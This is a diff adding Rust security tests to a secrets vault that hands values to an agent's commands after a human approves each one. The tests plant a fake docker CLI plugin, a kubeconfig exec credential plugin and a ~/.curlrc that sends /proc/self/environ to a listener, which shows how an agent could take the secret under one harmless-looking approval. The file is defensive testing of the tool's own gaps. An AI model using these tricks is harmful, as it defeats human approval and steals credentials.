@@ -855,3 +855,197 @@ fn a_filter_added_to_the_repository_config_ends_a_git_status_grant_from_a_subdir
     assert!(!stolen(&marker, &tok), "the planted filter ran");
     assert_eq!(o.status.code(), Some(3), "{}", text(&o.stderr));
 }
+
+// ---------------------------------------------------------------------------------------------
+// 6. Tools outside the loader table whose configuration in HOME runs code
+
+/// A vault whose granted children get `HOME` = `<agent dir>/home` (as on a workstation: the
+/// user's home, which the agent can write, is not the keyveil home), a value `TOKEN`, and an
+/// `app` directory.
+fn setup_home() -> (Home, tempfile::TempDir, String, PathBuf, PathBuf) {
+    let h = Home::empty();
+    let dir = tempfile::Builder::new()
+        .prefix("kvagent")
+        .tempdir_in("/tmp")
+        .unwrap();
+    let home = dir.path().join("home");
+    let app = dir.path().join("app");
+    std::fs::create_dir_all(&home).unwrap();
+    std::fs::create_dir_all(&app).unwrap();
+    let mut c = h.cmd(&["init", "--passphrase-stdin", "--kdf-memory-kib", "19456"]);
+    c.env("HOME", &home)
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped());
+    let mut child = c.spawn().unwrap();
+    {
+        use std::io::Write;
+        let mut i = child.stdin.take().unwrap();
+        i.write_all(format!("{PASS}\n").as_bytes()).unwrap();
+    }
+    let o = wait_output(child, CLI_LIMIT);
+    assert!(o.status.success(), "init: {}", text(&o.stderr));
+    h.ok(&["env", "create", "demo", "--description", "test env"]);
+    let tok = crate::pathdirs::token();
+    h.set("demo", "TOKEN", &tok);
+    (h, dir, tok, home, app)
+}
+
+/// Runs `cmd` in `app` once, approved with the passphrase (one approval), within `limit`.
+fn run_once(h: &Home, app: &Path, cmd: &[&str], limit: Duration) -> (String, Output) {
+    let cwd = app.to_string_lossy().into_owned();
+    let mut args = vec!["run", "--cwd", &cwd, "--env", "demo", "--wait", "30", "--"];
+    args.extend_from_slice(cmd);
+    let child = h.spawn_run(&args);
+    let id = h.wait_request();
+    let card = h.ok(&["requests"]);
+    assert!(h.approve(id, &[]).status.success());
+    (card, wait_output(child, limit))
+}
+
+/// `docker compose version` (or `docker compose up`, `docker buildx build` with build secrets
+/// from the environment): the docker CLI runs its plugins from `~/.docker/cli-plugins` before
+/// the system's, and runs each with the whole environment (first for `docker-cli-plugin-
+/// metadata`). A `docker-compose` planted there gets the value with one approval of a card that
+/// shows `docker compose version` and no input.
+///
+/// Gap: `loaders.rs::TABLE` has no docker row. Fix: add docker (`~/.docker/config.json`:
+/// `credsStore`, `credHelpers`, `cliPluginsExtraDirs`, `proxies`; `~/.docker/cli-plugins`, the
+/// system plugin dirs; `DOCKER_CONFIG`, `DOCKER_HOST` never pass) and pin them.
+#[test]
+#[ignore = "LEAK: a docker CLI plugin planted in ~/.docker/cli-plugins runs with the value under one approval of `docker compose version`"]
+fn a_docker_cli_plugin_in_home_never_runs_under_a_grant() {
+    if !have("/usr/local/bin/docker") && !have("/usr/bin/docker") {
+        return;
+    }
+    let (h, dir, tok, home, app) = setup_home();
+    let plugins = home.join(".docker/cli-plugins");
+    std::fs::create_dir_all(&plugins).unwrap();
+    let marker = dir.path().join("stolen-docker");
+    exe(
+        &plugins.join("docker-compose"),
+        &format!(
+            "#!/bin/sh\n{}if [ \"$1\" = docker-cli-plugin-metadata ]; then echo '{{\"SchemaVersion\":\"0.1.0\",\"Vendor\":\"x\",\"Version\":\"v2\"}}'; exit 0; fi\necho 'Docker Compose version v2'\n",
+            stealer(&marker)
+        ),
+    );
+    let (card, o) = run_once(&h, &app, &["docker", "compose", "version"], CLI_LIMIT);
+    no_value_in(&o, &tok);
+    assert!(
+        !stolen(&marker, &tok),
+        "~/.docker/cli-plugins/docker-compose ran with the value (plugin on the card: {}; exit {:?})",
+        card.contains("cli-plugins"),
+        o.status.code()
+    );
+}
+
+/// `kubectl get pods`: kubectl reads `~/.kube/config`, whose `users[].user.exec.command` (a
+/// credential plugin) it runs with its whole environment before the first request. One approval
+/// of `kubectl get pods` (card: no input) hands the value to the agent's program.
+///
+/// Gap: no kubectl row in `loaders.rs::TABLE` (nor `~/.aws/config` `credential_process`, the
+/// same class). Fix: pin `$HOME/.kube/config` (`KUBECONFIG` never passes), quote `exec.command`
+/// and `auth-provider` on the card.
+#[test]
+#[ignore = "LEAK: an exec credential plugin in ~/.kube/config runs with the value under one approval of `kubectl get pods`"]
+fn a_kubeconfig_exec_plugin_never_runs_under_a_grant() {
+    if !have("/usr/bin/kubectl") && !have("/usr/local/bin/kubectl") {
+        return;
+    }
+    let (h, dir, tok, home, app) = setup_home();
+    let marker = dir.path().join("stolen-kube");
+    let steal = dir.path().join("steal.sh");
+    exe(
+        &steal,
+        &format!(
+            "#!/bin/sh\n{}echo '{{\"apiVersion\":\"client.authentication.k8s.io/v1\",\"kind\":\"ExecCredential\",\"status\":{{\"token\":\"x\"}}}}'\n",
+            stealer(&marker)
+        ),
+    );
+    std::fs::create_dir_all(home.join(".kube")).unwrap();
+    std::fs::write(
+        home.join(".kube/config"),
+        format!(
+            "apiVersion: v1\nkind: Config\nclusters:\n- cluster: {{server: \"https://127.0.0.1:1\"}}\n  name: c\ncontexts:\n- context: {{cluster: c, user: u}}\n  name: x\ncurrent-context: x\nusers:\n- name: u\n  user:\n    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: {}\n      interactiveMode: Never\n",
+            steal.display()
+        ),
+    )
+    .unwrap();
+    let (card, o) = run_once(
+        &h,
+        &app,
+        &["kubectl", "get", "pods", "--request-timeout=5s"],
+        CLI_LIMIT,
+    );
+    no_value_in(&o, &tok);
+    assert!(
+        !stolen(&marker, &tok),
+        "the kubeconfig exec plugin ran with the value (kube config on the card: {}; exit {:?})",
+        card.contains(".kube/config"),
+        o.status.code()
+    );
+}
+
+/// `curl -fsS http://127.0.0.1:9/health`: curl reads `~/.curlrc`. Two lines there
+/// (`proxy = http://127.0.0.1:AGENT` and `data-binary = "@/proc/self/environ"`) send curl's
+/// whole environment, the value included, to the agent's listener, with one approval of a card
+/// that shows only the health URL.
+///
+/// Gap: no curl (nor wget: `~/.wgetrc`, nor ssh: `~/.ssh/config` `ProxyCommand`/`Match exec`)
+/// row in `loaders.rs::TABLE`. Fix: neutralise (`CURL_HOME` pointing at an empty directory,
+/// `-q` is argv only; wget `WGETRC=/dev/null`) or pin `~/.curlrc`, `$XDG_CONFIG_HOME/.curlrc`,
+/// `~/.wgetrc`, `~/.ssh/config` and its `Include`s.
+#[test]
+#[ignore = "LEAK: ~/.curlrc sends curl's environment (with the value) to the agent's proxy under one approval of a health-check curl"]
+fn a_curlrc_never_sends_the_environment_to_the_agent() {
+    if !have("/usr/bin/curl") {
+        return;
+    }
+    let (h, _dir, tok, home, app) = setup_home();
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let (tx, rx) = std::sync::mpsc::channel::<Vec<u8>>();
+    std::thread::spawn(move || {
+        use std::io::{Read, Write};
+        if let Ok((mut s, _)) = listener.accept() {
+            let _ = s.set_read_timeout(Some(Duration::from_secs(3)));
+            let mut got = Vec::new();
+            let mut buf = [0u8; 4096];
+            while let Ok(n) = s.read(&mut buf) {
+                if n == 0 {
+                    break;
+                }
+                got.extend_from_slice(&buf[..n]);
+                if got.len() > 64 * 1024 {
+                    break;
+                }
+            }
+            let _ = s.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok");
+            let _ = tx.send(got);
+        }
+    });
+    std::fs::write(
+        home.join(".curlrc"),
+        format!("proxy = \"http://127.0.0.1:{port}\"\ndata-binary = \"@/proc/self/environ\"\n"),
+    )
+    .unwrap();
+    let (_card, o) = run_once(
+        &h,
+        &app,
+        &[
+            "curl",
+            "-fsS",
+            "--max-time",
+            "8",
+            "http://127.0.0.1:9/health",
+        ],
+        CLI_LIMIT,
+    );
+    no_value_in(&o, &tok);
+    let got = rx.recv_timeout(Duration::from_secs(10)).unwrap_or_default();
+    assert!(
+        !contains(&got, &tok),
+        "the agent's listener received the value through ~/.curlrc (exit {:?})",
+        o.status.code()
+    );
+}
